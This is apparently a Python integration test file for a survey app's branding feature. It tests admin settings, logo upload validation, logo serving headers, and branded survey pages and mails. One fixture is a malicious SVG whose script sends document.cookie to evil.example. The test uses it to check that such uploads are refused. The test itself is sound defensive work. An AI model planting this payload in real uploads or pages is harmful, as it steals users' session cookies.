"""Who is asking: an admin sets the organisation's name, sender, accent colour and logo; survey
mails, survey pages and password mails show them in the recipient's language; the logo is served
from our own host; text responses are compressed, except pages that carry a CSRF token."""

from __future__ import annotations

import base64
import hashlib
import io
import re
import time

import brotli
import pytest

from coachflow.accounts import demo, organisation
from coachflow.accounts.models import OrganisationSettings, User
from coachflow.platform.audit import AuditEvent
from coachflow.platform.extensions import db
from coachflow.questionnaires.models import Survey
from coachflow.surveys.services import distribution
from coachflow.surveys.services.distribution import Criteria
from tests.helpers import csrf_token, html_of, text_of
from tests.integration.test_password_reset import request_reset
from tests.integration.test_surveys_distribution_support import customer, person, survey_in
from tests.survey_factories import make_invitation, make_survey
from tests.unit.test_branding_checks import SAFE_SVG, png

NAME = "Nordwind Industrial"
SENDER = {"sender_name": "Nordwind Customer Care", "sender_address": "care@nordwind.example"}


def save(client, logo: bytes | None = None, filename: str = "logo.svg", **fields):
    """Post the settings form as an admin would, with a logo file when given."""
    data = {
        "csrf_token": csrf_token(client, "/admin/settings"),
        "company_domains": "",
        "name": NAME,
        **SENDER,
        "accent_colour": "#0f5e66",
        **fields,
    }
    if logo is not None:
        data["logo"] = (io.BytesIO(logo), filename)
    return client.post("/admin/settings", data=data, content_type="multipart/form-data")


def saved(app) -> OrganisationSettings | None:
    with app.app_context():
        settings = db.session.get(OrganisationSettings, organisation.SETTINGS_ID)
        if settings is not None:
            db.session.expunge(settings)
        return settings


def page_of(response) -> str:
    return response.get_data(as_text=True)


# The admin's settings --------------------------------------------------------------------------


def test_an_admin_sets_name_sender_colour_and_logo_and_sees_them_again(app, as_role):
    admin = as_role("admin")
    response = save(admin, SAFE_SVG, accent_colour="#0F5E66")
    assert response.status_code == 302
    settings = saved(app)
    assert (settings.name, settings.sender_name, settings.sender_address) == (
        NAME,
        "Nordwind Customer Care",
        "care@nordwind.example",
    )
    assert settings.accent_colour == "#0f5e66"
    assert (settings.logo_type, settings.logo_size) == ("image/svg+xml", len(SAFE_SVG))
    page = page_of(admin.get("/admin/settings"))
    assert f'value="{NAME}"' in page
    assert 'value="#0f5e66"' in page
    assert re.search(r'<img src="/branding/logo-[0-9a-f]{16}\.svg"', page)
    with app.app_context():
        assert db.session.scalar(
            db.select(AuditEvent.details).where(AuditEvent.action == "settings.updated")
        ).startswith("company_domains= adhoc_needs_approval=False name=Nordwind Industrial")


def test_saving_without_a_new_file_keeps_the_logo_and_remove_takes_it_away(app, as_role):
    admin = as_role("admin")
    save(admin, SAFE_SVG)
    save(admin, name="Nordwind")
    assert saved(app).logo_hash == hashlib.sha256(SAFE_SVG).hexdigest()
    save(admin, remove_logo="y")
    assert saved(app).logo_hash is None
    assert "/branding/logo-" not in page_of(admin.get("/admin/settings"))


def test_an_accent_colour_white_text_is_hard_to_read_on_is_refused_and_nothing_saved(app, as_role):
    response = save(as_role("admin"), accent_colour="#ffd700")
    assert response.status_code == 200
    assert (
        "White text on #ffd700 has a contrast of only 1.4 to 1; buttons need at least 4.5 to 1"
        " to stay readable. Choose a darker colour."
    ) in page_of(response)
    assert saved(app) is None


def test_what_is_no_colour_or_no_address_is_refused_beside_its_field(app, as_role):
    admin = as_role("admin")
    page = page_of(save(admin, accent_colour="teal"))
    assert "“teal” is not a colour such as #1d5fbf." in page
    page = page_of(save(admin, sender_address="care at nordwind"))
    assert "“care at nordwind” is not an email address." in page
    assert saved(app) is None


MALICIOUS_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/api/v1/accounts\')">'
    b"<script>document.location='https://evil.example/?c='+document.cookie</script>"
    b"<rect width='10' height='10'/></svg>"
)


def test_a_malicious_svg_is_refused_with_what_it_holds_and_never_served(app, as_role, client):
    response = save(as_role("admin"), MALICIOUS_SVG)
    assert response.status_code == 200
    assert (
        "This SVG contains onload, which a logo may not hold (scripts, event handlers,"
        " embedded documents or links to other files). Export it as plain SVG, or upload a PNG."
    ) in page_of(response)
    assert saved(app) is None
    assert client.get("/branding/logo-0000000000000000.svg").status_code == 404


def test_a_logo_too_large_or_of_another_kind_is_refused(app, as_role):
    admin = as_role("admin")
    page = page_of(save(admin, b"\x89PNG\r\n\x1a\n" + b"\x00" * 60 * 1024, "big.png"))
    assert "The logo is 61 KB; it may be at most 50 KB." in page
    page = page_of(save(admin, b"GIF89a" + b"\x00" * 100, "logo.gif"))
    assert "The logo must be a PNG or an SVG file." in page
    page = page_of(save(admin, png(1200, 300), "wide.png"))
    assert "The logo is 1200×300 pixels; it may be at most 1,000 pixels on either side." in page
    assert saved(app) is None


# The logo, served from our own host -----------------------------------------------------------


def test_the_logo_is_served_under_its_hash_cached_for_a_year_and_revalidated(app, as_role, client):
    save(as_role("admin"), png(60, 20), "logo.png")
    digest = saved(app).logo_hash
    url = f"/branding/logo-{digest[:16]}.png"
    response = client.get(url)
    assert response.status_code == 200
    assert response.mimetype == "image/png"
    assert response.data == png(60, 20)
    assert response.headers["Cache-Control"] == "public, max-age=31536000, immutable"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    again = client.get(url, headers={"If-None-Match": response.headers["ETag"]})
    assert again.status_code == 304
    # A URL of an earlier logo (an old mail) shows the current one, for a short while only.
    old = client.get("/branding/logo-0123456789abcdef.png")
    assert old.data == png(60, 20)
    assert old.headers["Cache-Control"] == "public, max-age=300"


def test_an_svg_logo_opened_directly_may_draw_but_run_and_load_nothing(app, as_role, client):
    save(as_role("admin"), SAFE_SVG)
    response = client.get(f"/branding/logo-{saved(app).logo_hash[:16]}.svg")
    assert response.mimetype == "image/svg+xml"
    assert response.headers["Content-Security-Policy"] == (
        "default-src 'none'; style-src 'unsafe-inline'"
    )
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_without_a_logo_its_address_is_not_found(client):
    assert client.get("/branding/logo-0123456789abcdef.png").status_code == 404


# The respondent's page ------------------------------------------------------------------------


@pytest.fixture
def token(app, org) -> str:
    with app.app_context():
        survey = make_survey(owner_id=org.manager)
        _invitation, token = make_invitation(app, survey, email="c@kunde.example", rep_id=org.rep)
        db.session.commit()
        return token


def test_the_survey_page_names_the_organisation_shows_its_logo_and_uses_its_colour(
    app, as_role, client, token
):
    save(as_role("admin"), SAFE_SVG)
    response = client.get(f"/s/{token}")
    page = page_of(response)
    assert f'<p class="public-org">{NAME}</p>' in page
    assert re.search(
        r'<img class="public-logo" src="/branding/logo-[0-9a-f]{16}\.svg" alt="">', page
    )
    assert "<title>Relationship NPS – Nordwind Industrial</title>" in page
    assert "Nordwind Industrial asks for your opinion with CoachFlow." in page
    css = ":root{--accent:#0f5e66}"
    assert f"<style>{css}</style>" in page
    digest = base64.b64encode(hashlib.sha256(css.encode()).digest()).decode()
    assert f"style-src 'self' 'sha256-{digest}'" in response.headers["Content-Security-Policy"]
    assert "/static/css/public.css" in page
    assert "app.css" not in page
    assert "<script" not in page


def test_the_survey_page_speaks_the_invitations_language_around_the_name(app, as_role, client, org):
    save(as_role("admin"))
    with app.app_context():
        survey = make_survey(owner_id=org.manager)
        invitation, token = make_invitation(app, survey, email="k@kunde.example", rep_id=org.rep)
        survey.current_version.texts = {"de": {"title": "Wie war es?"}}
        survey.default_language = "de"
        invitation.language = "de"
        db.session.commit()
    page = page_of(client.get(f"/s/{token}"))
    assert '<html lang="de">' in page
    assert "Nordwind Industrial bittet Sie mit CoachFlow um Ihre Meinung." in page


def test_without_settings_the_survey_page_shows_no_organisation_and_the_default_colour(
    client, token
):
    response = client.get(f"/s/{token}")
    page = page_of(response)
    assert "public-header" not in page
    assert "<style>" not in page
    assert "style-src 'self';" in response.headers["Content-Security-Policy"]


def test_pages_and_styles_are_compressed_for_a_browser_that_asks(client, token):
    response = client.get(f"/s/{token}", headers={"Accept-Encoding": "gzip, deflate, br"})
    assert response.headers["Content-Encoding"] == "br"
    assert "Accept-Encoding" in response.headers["Vary"]
    assert b"Relationship NPS" in brotli.decompress(response.data)
    css = client.get("/static/css/public.css", headers={"Accept-Encoding": "br"})
    assert css.headers["Content-Encoding"] == "br"
    assert len(css.data) < 3000
    assert b".survey-submit" in brotli.decompress(css.data)
    css.close()


def test_a_page_that_carries_a_csrf_token_is_sent_uncompressed(client):
    response = client.get("/login", headers={"Accept-Encoding": "gzip, br"})
    assert "Content-Encoding" not in response.headers
    assert b'name="csrf_token"' in response.data


# Mail -------------------------------------------------------------------------------------------


def survey_mails(app, org, mailbox, language: str = "en"):
    """Send a survey to one contact of the rep's customer (speaking ``language``)."""
    app.config["PUBLIC_BASE_URL"] = "https://feedback.example"
    with app.app_context():
        db.session.get(User, org.rep).name = "Robin Rep"
        account = customer(org.rep, "K1", "Kunde GmbH")
        person(account, "buyer@kunde.example", name="Berta", language=language)
        survey = survey_in(org.manager)
        db.session.commit()
        distribution.send_survey(
            db.session.get(Survey, survey.id),
            Criteria(team_id=org.team),
            db.session.get(User, org.manager),
        )
    deadline = time.monotonic() + 10
    while not (messages := mailbox.to("buyer@kunde.example")) and time.monotonic() < deadline:
        time.sleep(0.05)
    return messages


def test_a_survey_mail_comes_from_the_organisation_and_shows_its_name_logo_and_colour(
    app, org, as_role, mailbox
):
    save(as_role("admin"), SAFE_SVG)
    [message] = survey_mails(app, org, mailbox)
    assert message["From"] == "Nordwind Customer Care <care@nordwind.example>"
    text, html = text_of(message), html_of(message)
    assert "Nordwind Industrial would like to hear about your experience with Robin Rep." in text
    assert "You receive this email as a customer of Nordwind Industrial." in text
    logo = f"https://feedback.example/branding/logo-{saved(app).logo_hash[:16]}.svg"
    assert f'<img src="{logo}" alt="Nordwind Industrial"' in html
    assert "background:#0f5e66" in html
    assert "minute" not in text
    assert "minute" not in html


def test_a_german_customer_reads_who_is_asking_in_german(app, org, as_role, mailbox):
    save(as_role("admin"))
    [message] = survey_mails(app, org, mailbox, language="de")
    text = text_of(message)
    assert "Nordwind Industrial möchte gern wissen, wie Ihre Erfahrung mit Robin Rep war." in text
    assert "Sie erhalten diese E-Mail als Kunde von Nordwind Industrial." in text


def test_the_sender_name_defaults_to_the_organisation_name_then_to_the_configured_one(
    app, org, as_role, mailbox
):
    save(as_role("admin"), sender_name="", sender_address="")
    [message] = survey_mails(app, org, mailbox)
    assert message["From"] == "Nordwind Industrial <no-reply@localhost>"


def test_without_settings_the_survey_mail_is_as_before_from_the_configured_sender(
    app, org, mailbox
):
    [message] = survey_mails(app, org, mailbox)
    assert message["From"] == "CoachFlow <no-reply@localhost>"
    assert "We would like to hear about your experience with Robin Rep." in text_of(message)
    assert "background:#1d5fbf" in html_of(message)


def test_a_password_mail_comes_from_the_organisation_and_names_it(app, org, as_role, mailbox):
    save(as_role("admin"), SAFE_SVG)
    request_reset(app.test_client(), "rep@example.com")
    [message] = mailbox.to("rep@example.com")
    assert message["From"] == "Nordwind Customer Care <care@nordwind.example>"
    assert "your CoachFlow account at Nordwind Industrial" in text_of(message)
    assert 'alt="Nordwind Industrial"' in html_of(message)


# The demo ---------------------------------------------------------------------------------------


def test_the_demo_organisation_has_a_name_a_sender_a_colour_and_a_logo(app):
    result = app.test_cli_runner().invoke(args=["seed-demo", "--reps", "1", "--seed", "1"])
    assert result.exit_code == 0, result.output
    with app.app_context():
        found = organisation.branding()
        assert (found.name, found.accent) == (demo.ORGANISATION, demo.ACCENT)
        assert organisation.sender_header() == (
            "Nordwind Customer Care <customer-care@nordwind.example>"
        )
        assert found.logo_file.endswith(".svg")
